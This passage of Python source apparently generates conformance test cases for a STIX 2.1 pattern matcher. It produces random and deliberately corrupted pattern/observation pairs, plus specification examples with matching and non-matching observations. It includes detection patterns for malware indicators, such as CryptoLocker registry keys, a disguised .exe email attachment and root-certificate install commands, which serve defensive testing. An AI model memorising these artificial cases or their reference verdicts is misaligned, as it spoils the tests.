        return "%sEXISTS %s" % ("NOT " if neg else "", txt)

    # ---- comparison expressions
    def cmp_expr(self, target, want, n, force_op=None, force_neg=None):
        """Returns a tree: ('c', text) | ('and'|'or', l, r)."""
        rng = self.rng
        if n == 1:
            return ("c", self.comparison(target, want, force_op, force_neg))
        self.in_boolean = True
        op = "and" if rng.random() < 0.5 else "or"
        nl = rng.randint(1, n - 1)
        if op == "and":
            if want:
                wl, wr = True, True
            else:
                wl = rng.random() < 0.5
                wr = not wl if wl else rng.random() < 0.5
            tl = tr = target
            if rng.random() < 0.06:
                tr = self.other_object(target)
        else:
            if want:
                wl = rng.random() < 0.5
                wr = not wl if not wl else rng.random() < 0.5
            else:
                wl = wr = False
            tl = target
            tr = target if rng.random() < 0.7 else self.other_object(target)
        left = self.cmp_expr(tl, wl, nl, force_op, force_neg)
        right = self.cmp_expr(tr, wr, n - nl)
        if tl[1]["type"] != tr[1]["type"]:
            self.tags.append("cmp.%s-mixed-types" % op)
        elif tl[1] is not tr[1]:
            self.tags.append("cmp.%s-two-objects" % op)
        return (op, left, right)

    def other_object(self, target):
        oi, obj = target
        objs = self.world.observations[oi].objects
        return (oi, self.rng.choice(objs))

    def render_cmp(self, tree, parent=None, is_right=False):
        rng = self.rng
        if tree[0] == "c":
            return tree[1]
        op = tree[0]
        self.tags.append("cmp." + op)
        left = self.render_cmp(tree[1], op, False)
        right = self.render_cmp(tree[2], op, True)
        s = "%s %s %s" % (left, op.upper(), right)
        need = parent == "and" and op == "or"
        if parent is not None and parent != op:
            self.tags.append("cmp.mixed-precedence")
        if need or (parent is not None and (is_right and parent == op and rng.random() < 0.5)) or \
                (parent is not None and rng.random() < 0.15):
            self.tags.append("cmp.paren")
            return "(" + s + ")"
        if parent is None and rng.random() < 0.03:
            self.tags.append("cmp.paren")
            return "(" + s + ")"
        return s

    # ---- observation expressions
    def obs_tree(self, want, n, pref=None):
        """Observation expression tree: ('leaf', cmp tree) | ('and'|'or'|'fby', l, r) | ('qual', node, [...])."""
        rng = self.rng
        if n == 1:
            target = self.pick_target(pref)
            ncmp = wchoice(rng, [(1, 55), (2, 28), (3, 12), (4, 5)])
            self.in_boolean = False
            tree = self.cmp_expr(target, want, ncmp)
            node = ("leaf", tree)
            if rng.random() < 0.22:
                node = self.qualify(node, want, True)
            return node
        op = wchoice(rng, [("and", 35), ("or", 35), ("fby", 30)])
        nl = rng.randint(1, n - 1)
        if op in ("and", "fby"):
            if want:
                wl = wr = True
            else:
                wl = rng.random() < 0.5
                wr = not wl if wl else rng.random() < 0.5
        else:
            if want:
                wl = rng.random() < 0.5
                wr = not wl if not wl else rng.random() < 0.5
            else:
                wl = wr = False
        lp, rp = (("early", "late") if op == "fby" and rng.random() < 0.8 else (pref, pref))
        node = (op, self.obs_tree(wl, nl, lp), self.obs_tree(wr, n - nl, rp))
        if rng.random() < 0.18:
            node = self.qualify(node, want, not _has_repeats(node))
        return node

    def qualify(self, node, want, repeats_ok):
        """Qualifiers for node. REPEATS is never nested inside another REPEATS (stix2-matcher enumerates
        combinations of bindings and can take minutes on nested repetitions)."""
        rng = self.rng
        allowed = ["within", "repeats", "startstop"] if repeats_ok else ["within", "startstop"]
        kinds = []
        first = wchoice(rng, [(k, w) for k, w in (("within", 40), ("repeats", 32), ("startstop", 28))
                              if k in allowed])
        kinds.append(first)
        if rng.random() < 0.28:
            kinds.append(rng.choice([k for k in allowed if k != first]))
            if rng.random() < 0.2:
                rest = [k for k in allowed if k not in kinds]
                if rest:
                    kinds.append(rest[0])
        if rng.random() < 0.01 and kinds[0] != "repeats":
            kinds.append(kinds[0])
            self.tags.append("quirk.duplicate-qualifier")
        group = node[0] != "leaf"
        return ("qual", node, [self.qualifier(k, group) for k in kinds])

    def qualifier(self, kind, group=False):
        rng = self.rng
        obs = self.world.observations
        self.tags.append("qual." + kind)
        if kind == "within":
            times = sorted([o.first for o in obs] + [o.last for o in obs])
            span = (times[-1] - times[0]).total_seconds()
            gaps = [abs((a.first - b.last).total_seconds()) for a in obs for b in obs]
            base = rng.choice(gaps + [span])
            n = rng.choice([base - 1, base, base + 1, base + 0.5, 1, 60, 300, 3600, 86400, 31536000])
            if n <= 0:
                n = rng.choice([1, 0.5, 299])
            if rng.random() < 0.012:
                n = 0
                self.tags += ["error.within-zero", "quirk.zero-qualifier"]
            if isinstance(n, float) and n != int(n) or rng.random() < 0.08:
                self.tags.append("qual.within.float")
                return "WITHIN %s SECONDS" % fmt_float(n)
            return "WITHIN %d SECONDS" % int(n)
        if kind == "repeats":
            n = wchoice(rng, [(1, 10), (2, 40), (3, 28), (4, 15), (5, 7)] if not group else [(1, 10), (2, 60), (3, 30)])
            if rng.random() < 0.012:
                n = 0
                self.tags += ["error.repeats-zero", "quirk.zero-qualifier"]
            return "REPEATS %d TIMES" % n
        o = rng.choice(obs)
        choice = rng.random()
        if choice < 0.3:
            start, stop = o.first - _dt.timedelta(seconds=rng.choice([1, 60, 3600])), \
                o.last + _dt.timedelta(seconds=rng.choice([1, 60, 3600]))
        elif choice < 0.42:
            start, stop = o.last, o.last + _dt.timedelta(seconds=60)
            self.tags.append("qual.startstop.touch-start")
        elif choice < 0.54:
            start, stop = o.first - _dt.timedelta(seconds=60), o.first
            self.tags.append("qual.startstop.touch-stop")
        elif choice < 0.7:
            start, stop = o.last + _dt.timedelta(seconds=1), o.last + _dt.timedelta(days=1)
        elif choice < 0.8:
            start, stop = o.first - _dt.timedelta(days=400), o.first - _dt.timedelta(days=1)
        elif choice < 0.95:
            start, stop = o.first - _dt.timedelta(days=3650), o.first + _dt.timedelta(days=3650)
        elif choice < 0.975:
            start, stop = o.first + _dt.timedelta(seconds=5), o.first - _dt.timedelta(seconds=5)
            self.tags.append("qual.startstop.inverted")
        else:
            start = stop = o.first
            self.tags.append("qual.startstop.empty")
        if rng.random() < 0.01:
            self.tags += ["error.timestamp-invalid-date", "quirk.feb30"]
            return "START t'2021-02-30T00:00:00Z' STOP t'2021-03-01T00:00:00Z'"

        def sty(t):
            if t.microsecond == 0 and rng.random() < 0.7:
                return ""
            return "ms" if t.microsecond % 1000 == 0 else "us"
        self.tags += ["lit.timestamp"]
        return "START %s STOP %s" % (lit_ts(start, sty(start)), lit_ts(stop, sty(stop)))

    def world_shares_instants(self):
        """True if two observation instances may carry the same timestamp (number_observed > 1 or
        overlapping intervals), where FOLLOWEDBY depends on whether 'follows' admits equality."""
        obs = self.world.observations
        if any(o.n > 1 for o in obs):
            return True
        return any(a is not b and a.first <= b.last and b.first <= a.last for a in obs for b in obs)

    def render_obs(self, node, parent=None, is_right=False):
        rng = self.rng
        kind = node[0]
        if kind == "leaf":
            inner = self.render_cmp(node[1])
            if rng.random() < 0.02:
                inner = " " + inner + " "
            return "[" + inner + "]"
        if kind == "qual":
            child = node[1]
            s = self.render_obs(child, "qual")
            if child[0] in ("and", "or", "fby"):
                if not s.startswith("(") or not s.endswith(")") or not _balanced_outer(s):
                    s = "(" + s + ")"
                self.tags += ["qual.on-group", "obs.paren"]
            if len(node[2]) > 1:
                self.tags.append("qual.combo")
            return s + " " + " ".join(node[2])
        op = kind
        self.tags.append("obs." + ("followedby" if op == "fby" else op))
        if op == "fby" and self.world_shares_instants():
            self.tags.append("obs.followedby.shared-instant")
        prec = {"fby": 1, "or": 2, "and": 3}
        left = self.render_obs(node[1], op, False)
        right = self.render_obs(node[2], op, True)
        opname = {"fby": "FOLLOWEDBY", "or": "OR", "and": "AND"}[op]
        s = "%s %s %s" % (left, opname, right)
        if parent in prec and parent != op:
            self.tags.append("obs.mixed-precedence")
        need = False
        if parent in prec:
            need = prec[op] < prec[parent] or (prec[op] == prec[parent] and is_right)
        if parent == "qual":
            need = True
        if need or (parent is not None and rng.random() < 0.12) or (parent is None and rng.random() < 0.03):
            self.tags.append("obs.paren")
            return "(" + s + ")"
        return s


def _has_repeats(node):
    if node[0] == "leaf":
        return False
    if node[0] == "qual":
        return any(q.startswith("REPEATS") for q in node[2]) or _has_repeats(node[1])
    return _has_repeats(node[1]) or _has_repeats(node[2])


def _balanced_outer(s):
    """True if s is '( ... )' with the first parenthesis closing at the very end."""
    depth = 0
    in_str = False
    i = 0
    while i < len(s):
        c = s[i]
        if in_str:
            if c == "\\":
                i += 2
                continue
            if c == "'":
                in_str = False
        elif c == "'":
            in_str = True
        elif c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth == 0 and i != len(s) - 1:
                return False
        i += 1
    return True


def eval_raw(obj, tokens, by_id):
    vals = eval_path(obj, tokens[:-1], by_id) if len(tokens) > 1 else [obj]
    k = tokens[-1][1]
    for v in vals:
        if isinstance(v, dict) and isinstance(v.get(k), str):
            return v[k]
    return None


# --------------------------------------------------------------------------------------------
# Cases

class Case:
    """One (pattern, observed) pair."""
    __slots__ = ("pattern", "observed", "reference", "tags", "note", "ref", "ref_detail", "got", "got_detail")

    def __init__(self, pattern, observed, tags, note=""):
        self.pattern = pattern
        self.observed = observed
        self.reference = to_reference_form(observed)
        seen = []
        for t in tags:
            if t not in seen:
                seen.append(t)
        self.tags = seen
        self.note = note
        self.ref = None
        self.ref_detail = ""
        self.got = None
        self.got_detail = ""


def corrupt_observed(rng, world, tags):
    """An observed list that stix2-matcher refuses (input unusable)."""
    kind = rng.choice(["number-observed-0", "missing-last-observed", "bad-first-observed", "missing-object-refs",
                       "empty-list", "sco-without-id", "number-observed-negative"])
    tags.append("observed.invalid." + kind)
    world.style = "bundle"
    obs = world.observed()
    if kind == "empty-list":
        tags.append("quirk.empty-observed")
        return []
    objs = obs[0]["objects"]
    od = next(o for o in objs if o["type"] == "observed-data")
    if kind == "number-observed-0":
        od["number_observed"] = 0
    elif kind == "number-observed-negative":
        od["number_observed"] = -2
    elif kind == "missing-last-observed":
        del od["last_observed"]
    elif kind == "bad-first-observed":
        od["first_observed"] = rng.choice(["yesterday", "2020-13-45T00:00:00Z", "2020-01-01 00:00:00"])
    elif kind == "missing-object-refs":
        del od["object_refs"]
    elif kind == "sco-without-id":
        sco = next(o for o in objs if o["type"] != "observed-data")
        del sco["id"]
    return obs


SYNTAX_BREAKERS = [
    lambda s: s[:-1],                       # drop the final bracket/parenthesis/letter
    lambda s: s.replace("]", "", 1),
    lambda s: s.replace(" AND ", " AN ", 1) if " AND " in s else s + " AND",
    lambda s: s.replace("'", "", 1),
    lambda s: s + " garbage",
]


def generate_cases(seed, count):
    """`count` generated pairs (deterministic for seed). The first ones sweep every operator with and
    without NOT and with both wanted verdicts, so that even small corpora cover the operators."""
    rng = random.Random(seed)
    cases = []
    sweep = []
    for op in OPS:
        for neg in (False, True):
            if op == "EXISTS" and neg:
                continue
            for want in (True, False):
                sweep.append({"op": op, "neg": neg, "want": want})
    sweep.append({"op": "EXISTS", "neg": True, "want": True})
    i = 0
    while len(cases) < count:
        force = sweep[i] if i < len(sweep) else None
        i += 1
        world = make_world(rng)
        if force and force["op"] in ("ISSUBSET", "ISSUPERSET"):
            # make sure there is an address to test
            b = Builder(rng, world.observations[0].first)
            obj = b.make("ipv4-addr", 0)
            if force["op"] == "ISSUPERSET":
                obj["value"] = rng.choice(IPV4_CIDR)
            world.observations[0].objects.extend(b.objects)
            world.observations[0].by_id.update({o["id"]: o for o in b.objects})
        want = force["want"] if force else rng.random() < 0.56
        gen = Gen(rng, world)
        if force:
            oi = 0 if force["op"] in ("ISSUBSET", "ISSUPERSET") else None
            if oi is not None:
                target = (0, world.observations[0].objects[-1])
            else:
                target = gen.pick_target()
            text = gen.comparison(target, want, force["op"], force["neg"])
            pattern = "[" + text + "]"
        else:
            n = wchoice(rng, [(1, 52), (2, 30), (3, 13), (4, 5)])
            tree = gen.obs_tree(want, n)
            pattern = gen.render_obs(tree)
        tags = list(gen.tags)
        note = "want %s" % want
        r = rng.random()
        if r < 0.01:
            observed = corrupt_observed(rng, world, tags)
        else:
            tags += world.tags()
            observed = world.observed()
            if r < 0.022:
                pattern = rng.choice(SYNTAX_BREAKERS)(pattern)
                tags.append("error.syntax")
            elif r < 0.026:
                pattern = pattern.replace(" AND ", "  AND\n\t", 1).replace("[", "[ ", 1)
                tags.append("ws.unusual")
        cases.append(Case(pattern, observed, tags, note))
    return cases


# --------------------------------------------------------------------------------------------
# STIX 2.1 specification examples (the list stix2-patterns ships as test/v21/spec_examples.txt, which
# follows the STIX 2.1 specification's patterning examples), each with a hand-made observation that
# should match and one that should not. The reference verdict still comes from stix2-matcher.

def _sid(name):
    t = name.split("#")[0]
    return "%s--%s" % (t, uuid.uuid5(UUID_NS, name))


def _spec_obs(specs, style="bundle"):
    """specs: list of (first, last, n, [objects]); objects use "@name" references and "#name" ids."""
    out_objs = []
    for i, (first, last, n, objs) in enumerate(specs):
        mapping = {}
        for o in objs:
            mapping["@" + o["#"]] = _sid(o["type"] + "#" + o["#"] + "#%d" % i)
        scos = []
        for o in objs:
            x = _rewrite_refs({k: v for k, v in o.items() if k != "#"}, mapping)
            x["id"] = mapping["@" + o["#"]]
            x["spec_version"] = "2.1"
            scos.append(x)
        od = {"type": "observed-data", "spec_version": "2.1", "id": _sid("observed-data#%d" % i),
              "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
              "first_observed": first, "last_observed": last, "number_observed": n,
              "object_refs": [x["id"] for x in scos]}
        out_objs.append((od, scos))
    if style == "bundles":
        return [{"type": "bundle", "id": _sid("bundle#%d" % i), "objects": [od] + scos}
                for i, (od, scos) in enumerate(out_objs)]
    objs = []
    for od, scos in out_objs:
        objs.append(od)
        objs.extend(scos)
    return [{"type": "bundle", "id": _sid("bundle#spec"), "objects": objs}]


T1 = "2016-06-01T10:00:00Z"
T2 = "2016-06-01T10:02:00Z"
T3 = "2016-06-01T10:10:00Z"
T4 = "2016-06-01T11:00:00Z"
H_AEC = "aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f"
H_BF0 = "bf07a7fbb825fc0aae7bf4a1177b2b31fcf8a3feeaf7092761e18c859ee52a9c"


def _file(**kw):
    d = {"type": "file", "#": kw.pop("_", "f")}
    d.update(kw)
    return d


def spec_examples():
    """[(pattern, [(observed, note), ...], extra_tags)]"""
    pcap = base64.b64encode(bytes.fromhex("d4c3b2a10200040000000000")).decode()
    ex = []

    def add(p, pairs, tags=()):
        ex.append((p, pairs, list(tags)))

    add("[file:hashes.'SHA-256' = '%s']" % H_AEC, [
        (_spec_obs([(T1, T1, 1, [_file(name="a.pdf", hashes={"SHA-256": H_AEC})])]), "hash present"),
        (_spec_obs([(T1, T1, 1, [_file(name="a.pdf", hashes={"SHA-256": H_BF0})])]), "other hash")])
    add("[email-message:from_ref.value MATCHES '.+\\\\@example\\\\.com$' AND "
        "email-message:body_multipart[*].body_raw_ref.name MATCHES '^Final Report.+\\\\.exe$']", [
            (_spec_obs([(T1, T1, 1, [
                {"type": "email-addr", "#": "from", "value": "jdoe@example.com"},
                {"type": "file", "#": "att", "name": "Final Report Q3.exe"},
                {"type": "email-message", "#": "m", "is_multipart": True, "from_ref": "@from",
                 "body_multipart": [{"content_type": "text/plain", "body": "see attached"},
                                    {"content_type": "application/octet-stream", "body_raw_ref": "@att"}]}])]),
             "matching sender and attachment"),
            (_spec_obs([(T1, T1, 1, [
                {"type": "email-addr", "#": "from", "value": "jdoe@example.org"},
                {"type": "file", "#": "att", "name": "Final Report Q3.exe"},
                {"type": "email-message", "#": "m", "is_multipart": True, "from_ref": "@from",
                 "body_multipart": [{"content_type": "application/octet-stream", "body_raw_ref": "@att"}]}])]),
             "sender in another domain")])
    add("[file:hashes.'SHA-256' = '%s' AND file:mime_type = 'application/x-pdf']" % H_AEC, [
        (_spec_obs([(T1, T1, 1, [_file(hashes={"SHA-256": H_AEC}, mime_type="application/x-pdf")])]), "both"),
        (_spec_obs([(T1, T1, 1, [_file(_="f1", hashes={"SHA-256": H_AEC}),
                                 _file(_="f2", mime_type="application/x-pdf")])]), "split over two files")])
    add("[file:hashes.'SHA-256' = '%s' OR file:hashes.MD5 = 'cead3f77f6cda6ec00f57d76c9a6879f'] AND "
        "[file:hashes.'SHA-256' = '%s']" % (H_BF0, H_AEC), [
            (_spec_obs([(T1, T1, 1, [_file(hashes={"MD5": "cead3f77f6cda6ec00f57d76c9a6879f"})]),
                        (T2, T2, 1, [_file(hashes={"SHA-256": H_AEC})])]), "two observations"),
            (_spec_obs([(T1, T1, 1, [_file(_="f1", hashes={"MD5": "cead3f77f6cda6ec00f57d76c9a6879f"}),
                                     _file(_="f2", hashes={"SHA-256": H_AEC})])]),
             "one observation (AND needs two)")])
    add("([file:hashes.MD5 = '79054025255fb1a26e4bc422aef54eb4'] FOLLOWEDBY "
        "[win-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\foo\\\\bar']) WITHIN 300 SECONDS", [
            (_spec_obs([(T1, T1, 1, [_file(hashes={"MD5": "79054025255fb1a26e4bc422aef54eb4"})]),
                        (T2, T2, 1, [{"type": "win-registry-key", "#": "k", "key": "HKEY_LOCAL_MACHINE\\foo\\bar"}])]),
             "the example's own type name win-registry-key"),
            (_spec_obs([(T1, T1, 1, [_file(hashes={"MD5": "79054025255fb1a26e4bc422aef54eb4"})]),
                        (T2, T2, 1, [{"type": "windows-registry-key", "#": "k",
                                      "key": "HKEY_LOCAL_MACHINE\\foo\\bar"}])]),
             "windows-registry-key is another type"),
            (_spec_obs([(T1, T1, 1, [_file(hashes={"MD5": "79054025255fb1a26e4bc422aef54eb4"})]),
                        (T3, T3, 1, [{"type": "win-registry-key", "#": "k", "key": "HKEY_LOCAL_MACHINE\\foo\\bar"}])]),
             "10 minutes apart")])

    def ua(i, uid, login):
        return {"type": "user-account", "#": "u%d" % i, "account_type": "unix", "user_id": uid,
                "account_login": login}
    add("[user-account:account_type = 'unix' AND user-account:user_id = '1007' AND user-account:account_login = "
        "'Peter'] AND [user-account:account_type = 'unix' AND user-account:user_id = '1008' AND "
        "user-account:account_login = 'Paul'] AND [user-account:account_type = 'unix' AND user-account:user_id = "
        "'1009' AND user-account:account_login = 'Mary']", [
            (_spec_obs([(T1, T1, 1, [ua(1, "1007", "Peter")]), (T2, T2, 1, [ua(2, "1008", "Paul")]),
                        (T3, T3, 1, [ua(3, "1009", "Mary")])]), "three observations"),
            (_spec_obs([(T1, T1, 1, [ua(1, "1007", "Peter")]), (T2, T2, 1, [ua(2, "1008", "Paul")]),
                        (T3, T3, 1, [ua(3, "1009", "Marie")])]), "Mary missing")])
    add("[artifact:mime_type = 'application/vnd.tcpdump.pcap' AND artifact:payload_bin MATCHES "
        "'\\\\xd4\\\\xc3\\\\xb2\\\\xa1\\\\x02\\\\x00\\\\x04\\\\x00']", [
            (_spec_obs([(T1, T1, 1, [{"type": "artifact", "#": "a", "mime_type": "application/vnd.tcpdump.pcap",
                                      "payload_bin": pcap}])]), "pcap header"),
            (_spec_obs([(T1, T1, 1, [{"type": "artifact", "#": "a", "mime_type": "application/vnd.tcpdump.pcap",
                                      "payload_bin": base64.b64encode(b"\xa1\xb2\xc3\xd4\x00\x02").decode()}])]),
             "big-endian header")])
    add("[file:name = 'foo.dll' AND file:parent_directory_ref.path = 'C:\\\\Windows\\\\System32']", [
        (_spec_obs([(T1, T1, 1, [{"type": "directory", "#": "d", "path": "C:\\Windows\\System32"},
                                 _file(name="foo.dll", parent_directory_ref="@d")])]), "in System32"),
        (_spec_obs([(T1, T1, 1, [{"type": "directory", "#": "d", "path": "C:\\Windows\\SysWOW64"},
                                 _file(name="foo.dll", parent_directory_ref="@d")])]), "elsewhere")])
    add("[file:extensions.'windows-pebinary-ext'.sections[*].entropy > 7.0]", [
        (_spec_obs([(T1, T1, 1, [_file(name="x.exe", extensions={"windows-pebinary-ext": {
            "pe_type": "exe", "sections": [{"name": ".text", "entropy": 6.5}, {"name": "UPX1", "entropy": 7.9}]}})])]),
         "one packed section"),
        (_spec_obs([(T1, T1, 1, [_file(name="x.exe", extensions={"windows-pebinary-ext": {
            "pe_type": "exe", "sections": [{"name": ".text", "entropy": 7.0}]}})])]), "entropy exactly 7.0")])
    add("[file:mime_type = 'image/bmp' AND file:magic_number_hex = h'ffd8']", [
        (_spec_obs([(T1, T1, 1, [_file(mime_type="image/bmp", magic_number_hex="FFD8")])]), "upper-case hex"),
        (_spec_obs([(T1, T1, 1, [_file(mime_type="image/bmp", magic_number_hex="424d")])]), "BM magic")])
    add("[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '203.0.113.33/32']", [
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "d", "value": "203.0.113.33/32"},
                                 {"type": "network-traffic", "#": "n", "dst_ref": "@d", "protocols": ["tcp"]}])]),
         "value written as /32"),
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "d", "value": "203.0.113.33"},
                                 {"type": "network-traffic", "#": "n", "dst_ref": "@d", "protocols": ["tcp"]}])]),
         "value without /32")])

    def nt(i):
        return [{"type": "domain-name", "#": "d%d" % i, "value": "example.com"},
                {"type": "network-traffic", "#": "n%d" % i, "dst_ref": "@d%d" % i, "protocols": ["tcp"]}]
    add("[network-traffic:dst_ref.type = 'domain-name' AND network-traffic:dst_ref.value = 'example.com'] "
        "REPEATS 5 TIMES WITHIN 1800 SECONDS", [
            (_spec_obs([(T1, T2, 5, nt(0))]), "number_observed 5"),
            (_spec_obs([(T1, T1, 2, nt(0)), (T2, T2, 3, nt(1))]), "2 + 3 observations within 2 minutes"),
            (_spec_obs([(T1, T1, 2, nt(0)), (T4, T4, 3, nt(1))]), "2 + 3 observations an hour apart"),
            (_spec_obs([(T1, T1, 4, nt(0))]), "only 4")])
    add("[domain-name:value = 'www.5z8.info' AND domain-name:resolves_to_refs[*].value = '198.51.100.1/32']", [
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i1", "value": "203.0.113.1"},
                                 {"type": "ipv4-addr", "#": "i2", "value": "198.51.100.1/32"},
                                 {"type": "domain-name", "#": "d", "value": "www.5z8.info",
                                  "resolves_to_refs": ["@i1", "@i2"]}])]), "second address"),
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i1", "value": "198.51.100.1"},
                                 {"type": "domain-name", "#": "d", "value": "www.5z8.info",
                                  "resolves_to_refs": ["@i1"]}])]), "address without /32")])
    add("[url:value = 'http://example.com/foo' OR url:value = 'http://example.com/bar']", [
        (_spec_obs([(T1, T1, 1, [{"type": "url", "#": "u", "value": "http://example.com/bar"}])]), "bar"),
        (_spec_obs([(T1, T1, 1, [{"type": "url", "#": "u", "value": "http://example.com/baz"}])]), "baz")])
    add("[x509-certificate:issuer = 'CN=WEBMAIL' AND x509-certificate:serial_number = "
        "'4c:0b:1d:19:74:86:a7:66:b4:1a:bf:40:27:21:76:28']", [
            (_spec_obs([(T1, T1, 1, [{"type": "x509-certificate", "#": "c", "issuer": "CN=WEBMAIL",
                                      "serial_number": "4c:0b:1d:19:74:86:a7:66:b4:1a:bf:40:27:21:76:28"}])]), "same"),
            (_spec_obs([(T1, T1, 1, [{"type": "x509-certificate", "#": "c", "issuer": "CN=WEBMAIL",
                                      "serial_number": "4C:0B:1D:19:74:86:A7:66:B4:1A:BF:40:27:21:76:28"}])]),
             "serial in upper case")])
    add("[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\CryptoLocker\\\\Files' OR "
        "windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\Microsoft\\\\CurrentVersion\\\\Run\\\\"
        "CryptoLocker_0388']", [
            (_spec_obs([(T1, T1, 1, [{"type": "windows-registry-key", "#": "k",
                                      "key": "HKEY_CURRENT_USER\\Software\\CryptoLocker\\Files"}])]), "first key"),
            (_spec_obs([(T1, T1, 1, [{"type": "windows-registry-key", "#": "k",
                                      "key": "HKEY_CURRENT_USER\\Software\\CryptoLocker"}])]), "parent key")])
    add("[(file:name = 'pdf.exe' OR file:size = '371712') AND file:created = t'2014-01-13T07:03:17Z']", [
        (_spec_obs([(T1, T1, 1, [_file(name="pdf.exe", created="2014-01-13T07:03:17Z")])]), "name and created"),
        (_spec_obs([(T1, T1, 1, [_file(name="x.exe", size=371712, created="2014-01-13T07:03:17.000Z")])]),
         "size is an integer, the literal a string"),
        (_spec_obs([(T1, T1, 1, [_file(name="pdf.exe", created="2014-01-13T07:03:18Z")])]), "a second later")])
    add("[email-message:sender_ref.value = 'jdoe@example.com' AND email-message:subject = 'Conference Info']", [
        (_spec_obs([(T1, T1, 1, [{"type": "email-addr", "#": "s", "value": "jdoe@example.com"},
                                 {"type": "email-message", "#": "m", "is_multipart": False, "sender_ref": "@s",
                                  "subject": "Conference Info"}])]), "sender and subject"),
        (_spec_obs([(T1, T1, 1, [{"type": "email-addr", "#": "s", "value": "jdoe@example.com"},
                                 {"type": "email-message", "#": "m", "is_multipart": False, "from_ref": "@s",
                                  "subject": "Conference Info"}])]), "from_ref is not sender_ref")])
    add("[x-usb-device:usbdrive.serial_number = '575833314133343231313937']", [
        (_spec_obs([(T1, T1, 1, [{"type": "x-usb-device", "#": "u",
                                  "usbdrive": {"serial_number": "575833314133343231313937"}}])]), "custom object"),
        (_spec_obs([(T1, T1, 1, [{"type": "x-usb-device", "#": "u",
                                  "usbdrive": [{"serial_number": "575833314133343231313937"}]}])]),
         "usbdrive is a list (no [*] in the path)")])
    add("[process:command_line MATCHES '^.+>-add GlobalSign.cer -c -s -r localMachine Root$'] FOLLOWEDBY "
        "[process:command_line MATCHES'^.+>-add GlobalSign.cer -c -s -r localMachineTrustedPublisher$'] "
        "WITHIN 300 SECONDS", [
            (_spec_obs([(T1, T1, 1, [{"type": "process", "#": "p",
                                      "command_line": "C:\\Tools\\>-add GlobalSign.cer -c -s -r localMachine Root"}]),
                        (T2, T2, 1, [{"type": "process", "#": "p", "command_line":
                                      "C:\\Tools\\>-add GlobalSign.cer -c -s -r localMachineTrustedPublisher"}])]),
             "in order (WITHIN applies to the second expression only)"),
            (_spec_obs([(T2, T2, 1, [{"type": "process", "#": "p",
                                      "command_line": "C:\\Tools\\>-add GlobalSign.cer -c -s -r localMachine Root"}]),
                        (T1, T1, 1, [{"type": "process", "#": "p", "command_line":
                                      "C:\\Tools\\>-add GlobalSign.cer -c -s -r localMachineTrustedPublisher"}])]),
             "wrong order")])
    add("[network-traffic:dst_ref.value ISSUBSET '2001:0db8:dead:beef:0000:0000:0000:0000/64']", [
        (_spec_obs([(T1, T1, 1, [{"type": "ipv6-addr", "#": "d", "value": "2001:0db8:dead:beef:dead:beef:dead:0001"},
                                 {"type": "network-traffic", "#": "n", "dst_ref": "@d", "protocols": ["ipv6"]}])]),
         "inside the /64"),
        (_spec_obs([(T1, T1, 1, [{"type": "ipv6-addr", "#": "d", "value": "2001:db8:dead:bee0::1"},
                                 {"type": "network-traffic", "#": "n", "dst_ref": "@d", "protocols": ["ipv6"]}])]),
         "outside the /64")], ["cidr.ipv6", "quirk.ipv6-cidr"])
    add("([file:name = 'foo.dll'] AND [win-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\foo\\\\bar']) OR "
        "[process:name = 'fooproc' OR process:name = 'procfoo']", [
            (_spec_obs([(T1, T1, 1, [{"type": "process", "#": "p", "name": "procfoo", "pid": 7}])]), "process"),
            (_spec_obs([(T1, T1, 1, [_file(name="foo.dll")]),
                        (T2, T2, 1, [{"type": "win-registry-key", "#": "k", "key": "HKEY_LOCAL_MACHINE\\foo\\bar"}])]),
             "file and key"),
            (_spec_obs([(T1, T1, 1, [_file(name="foo.dll")])]), "file only")])
    add("[file:hashes.MD5 = 'cead3f77f6cda6ec00f57d76c9a69faa']", [
        (_spec_obs([(T1, T1, 1, [_file(hashes={"MD5": "cead3f77f6cda6ec00f57d76c9a69faa"})])]), "same"),
        (_spec_obs([(T1, T1, 1, [_file(hashes={"MD5": "CEAD3F77F6CDA6EC00F57D76C9A69FAA"})])]), "upper case")])
    # Further examples from the specification's text (sections 9.6-9.9)
    add("([ipv4-addr:value = '198.51.100.1/32' OR ipv4-addr:value = '203.0.113.33/32' OR ipv6-addr:value = "
        "'2001:0db8:dead:beef:dead:beef:dead:0001/128'] FOLLOWEDBY [domain-name:value = 'example.com']) "
        "WITHIN 600 SECONDS", [
            (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i", "value": "203.0.113.33/32"}]),
                        (T2, T2, 1, [{"type": "domain-name", "#": "d", "value": "example.com"}])]), "in time"),
            (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i", "value": "203.0.113.33/32"}]),
                        (T4, T4, 1, [{"type": "domain-name", "#": "d", "value": "example.com"}])]), "an hour later")])
    add("[file:name = 'foo.dll'] START t'2016-06-01T00:00:00Z' STOP t'2016-07-01T00:00:00Z'", [
        (_spec_obs([(T1, T1, 1, [_file(name="foo.dll")])]), "in June"),
        (_spec_obs([("2016-07-01T00:00:00Z", "2016-07-01T00:00:00Z", 1, [_file(name="foo.dll")])]),
         "at the STOP instant (excluded)")])
    add("[ipv4-addr:value ISSUBSET '198.51.100.0/24']", [
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i", "value": "198.51.100.77"}])]), "inside"),
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i", "value": "198.51.101.77"}])]), "outside")],
        ["cidr.ipv4"])
    add("[ipv4-addr:value ISSUPERSET '198.51.100.77']", [
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i", "value": "198.51.100.0/24"}])]), "network"),
        (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "i", "value": "198.51.101.0/24"}])]), "other network")],
        ["cidr.ipv4"])
    add("[email-message:to_refs[*].value = 'jdoe@example.com' AND email-message:is_multipart = false]", [
